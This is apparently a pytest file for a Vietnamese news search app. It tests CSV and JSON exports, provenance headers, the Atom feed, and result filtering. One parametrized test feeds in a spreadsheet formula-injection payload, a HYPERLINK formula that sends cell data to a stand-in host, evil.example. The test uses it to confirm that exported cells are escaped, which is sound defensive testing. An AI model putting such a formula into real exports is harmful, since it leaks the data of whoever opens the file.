"""CSV/JSON exports stream the complete result set; the Atom feed is valid and newest first."""

from __future__ import annotations

import csv
import io
import json
from urllib.parse import unquote
from xml.etree import ElementTree as ET

import pytest

from search_app.export import CSV_COLUMNS

ATOM = "{http://www.w3.org/2005/Atom}"


def _total(client, **params) -> int:
    return client.get("/api/search", query_string=params).get_json()["total"]


def _csv_response(client, **params):
    response = client.get("/xuat", query_string={"format": "csv", **params})
    assert response.status_code == 200
    assert "attachment" in response.headers["Content-Disposition"]
    return response


def _csv_records(client, **params) -> list[dict]:
    text = _csv_response(client, **params).get_data(as_text=True)
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_csv_export_holds_every_result_and_names_its_query(client):
    total = _total(client, q="tinh")  # every accented form of "tinh"
    assert total > 100  # more than the largest page: no silent cap
    response = _csv_response(client, q="tinh", per_page=5, page=3)
    records = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert len(records) == total
    assert len({r["url"] for r in records}) == total
    assert unquote(response.headers["X-Tracuu-Query"]) == "tinh"
    assert response.headers["X-Tracuu-Exported-At"][:2] == "20"
    assert json.loads(unquote(response.headers["X-Tracuu-Filters"]))["q"] == "tinh"
    assert "tracuu-tinh-20" in response.headers["Content-Disposition"]


def test_csv_header_is_the_first_row_for_dictreader(client):
    text = _csv_response(client, q="Hà Tĩnh").get_data(as_text=True).lstrip("\ufeff")
    first = next(csv.reader(io.StringIO(text)))
    assert first[:3] == ["url", "title", "published"]
    assert {"fetched_at", "content_hash", "gone_at", "edited"} <= set(first)
    assert all(name.isascii() and name == name.lower() for name in first)  # one language
    record = next(csv.DictReader(io.StringIO(text)))
    assert record["url"].startswith("http") and record["content_hash"].startswith("sha256:")
    assert record["fetched_at"][:2] == "20"


def test_csv_reads_with_pandas_defaults(client):
    pandas = pytest.importorskip("pandas")
    raw = _csv_response(client, q="covid").get_data()
    frame = pandas.read_csv(io.BytesIO(raw), encoding="utf-8-sig")
    assert list(frame.columns[:3]) == ["url", "title", "published"]
    assert len(frame) == _total(client, q="covid")


def test_csv_content_type_names_its_charset_once(client):
    content_type = _csv_response(client, q="covid").headers["Content-Type"]
    assert content_type == "text/csv; charset=utf-8"


def test_csv_export_of_everything_matches_the_index_size(client):
    documents = client.get("/api/stats").get_json()["documents"]
    assert len(_csv_records(client)) == documents


def test_json_export_carries_provenance(client):
    response = client.get("/xuat", query_string={"format": "json", "q": "covid"})
    assert response.headers["Content-Type"] == "application/json; charset=utf-8"
    first = json.loads(response.get_data(as_text=True))["results"][0]
    assert set(first) == set(CSV_COLUMNS)
    assert first["content_hash"].startswith("sha256:") and first["fetched_at"][:2] == "20"
    assert first["gone_at"] is None and first["edited"] is False


def test_json_export_keeps_order_and_filters(client):
    facets = client.get("/api/search", query_string={"q": "covid", "facets": 1}).get_json()
    category = facets["facets"]["category"][0]
    params = {"q": "covid", "category": category["value"], "sort": "oldest"}
    response = client.get("/xuat", query_string={"format": "json", **params})
    data = json.loads(response.get_data(as_text=True))
    assert set(data) >= {"query", "exported_at", "total", "results", "filters"}
    assert data["query"] == "covid" and data["filters"]["category"] == [category["value"]]
    assert data["total"] == len(data["results"]) == category["count"]
    dates = [r["published"] for r in data["results"] if r["published"]]
    assert dates == sorted(dates)
    api = client.get("/api/search", query_string={**params, "per_page": 100}).get_json()
    assert [r["url"] for r in data["results"]] == [r["url"] for r in api["results"]]


def test_csv_cells_cannot_start_a_formula():
    from search_app.export import _safe_cell

    assert _safe_cell("=HYPERLINK(1)") == "'=HYPERLINK(1)"
    assert _safe_cell("@SUM") == "'@SUM"
    assert _safe_cell("-1+1") == "'-1+1"
    assert _safe_cell(["Nguyễn Văn A", "Trần B"]) == "Nguyễn Văn A; Trần B"


@pytest.mark.parametrize(
    "query", ['=HYPERLINK("http://evil.example/?x="&A1,"bấm")', "+1", "-covid", "@SUM(1)"]
)
def test_no_csv_cell_starts_a_formula_and_the_query_rides_in_a_header(client, query):
    response = client.get("/xuat", query_string={"format": "csv", "q": query})
    assert response.status_code == 200
    assert unquote(response.headers["X-Tracuu-Query"]) == query  # kept, outside every cell
    text = response.get_data(as_text=True).lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_atom_feed_is_valid_and_newest_first(client):
    response = client.get("/feed.atom", query_string={"q": "nông thôn", "sort": "oldest"})
    assert response.mimetype == "application/atom+xml"
    root = ET.fromstring(response.data)
    assert root.tag == f"{ATOM}feed"
    for required in ("id", "title", "updated"):
        assert root.find(f"{ATOM}{required}").text
    entries = root.findall(f"{ATOM}entry")
    assert entries
    for entry in entries:
        assert entry.find(f"{ATOM}id").text.startswith("http")
        assert entry.find(f"{ATOM}title").text
        assert entry.find(f"{ATOM}link[@rel='alternate']").get("href")
    updated = [e.find(f"{ATOM}updated").text for e in entries]
    assert updated == sorted(updated, reverse=True)
    assert "nông thôn" in root.find(f"{ATOM}title").text


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_export_of_nothing_is_still_a_complete_file(client, fmt):
    response = client.get("/xuat", query_string={"format": fmt, "q": "zzqqxxyy"})
    body = response.get_data(as_text=True)
    if fmt == "json":
        assert json.loads(body)["total"] == 0
    else:
        assert body.lstrip("\ufeff").splitlines() == [",".join(CSV_COLUMNS)]


@pytest.mark.parametrize("q", ["bão", "Hà Nội", "nong thon"])
def test_every_view_of_a_query_holds_only_articles_that_hold_it(client, sample_app, q):
    from urllib.parse import parse_qs, urlparse

    from indexer.analysis import fold, normalize, tokenize
    from search_app.engine_handle import engine_of

    def syllables(text: str, exact: bool) -> str:
        words = [t.text if exact else t.folded for t in tokenize(text)]
        return " " + " ".join(words) + " "

    exact = fold(normalize(q)) != normalize(q)
    wanted = syllables(q, exact)
    exported = client.get("/xuat", query_string={"format": "json", "q": q}).get_json()
    urls = [r["url"] for r in exported["results"]]
    assert urls and exported["total"] == len(urls) == _total(client, q=q)
    engine = engine_of(sample_app)
    for url in urls:
        article = engine.get(url)
        text = "\n".join(part for part in (article.title, article.sapo, article.body) if part)
        assert wanted in syllables(text, exact), url
    feed = ET.fromstring(client.get("/feed.atom", query_string={"q": q}).data)
    links = [e.find(f"{ATOM}link[@rel='alternate']").get("href") for e in feed.iter(f"{ATOM}entry")]
    linked = {parse_qs(urlparse(link).query)["url"][0] for link in links}
    assert linked and linked <= set(urls)
    facets = client.get("/api/search", query_string={"q": q, "facets": 1}).get_json()["facets"]
    assert sum(f["count"] for f in facets["month"]) <= len(urls)
    assert sum(f["count"] for f in facets["source"]) == len(urls)
